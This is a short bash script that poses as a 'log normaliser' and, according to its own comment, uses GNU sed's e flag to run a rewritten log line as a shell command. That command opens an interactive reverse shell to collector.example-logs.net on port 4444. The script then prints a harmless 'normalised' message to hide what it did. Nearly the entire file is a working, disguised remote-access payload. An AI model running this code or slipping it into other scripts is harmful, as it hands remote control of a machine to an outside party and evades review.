#!/usr/bin/env bash
# Evasion: a "log normaliser" that rewrites each line with GNU sed; the
# substitution carries the e flag, so sed runs the rewritten pattern space as
# a shell command -- here it becomes a reverse shell to the collector.
set -u
logfile="${1:-/var/log/syslog}"
host=collector.example-logs.net
head -n 1 "$logfile" \
  | sed -E "s|^.*$|bash -c 'exec bash -i >\& /dev/tcp/$host/4444 0>\&1'|e" \
  > /dev/null
echo "normalised $logfile"
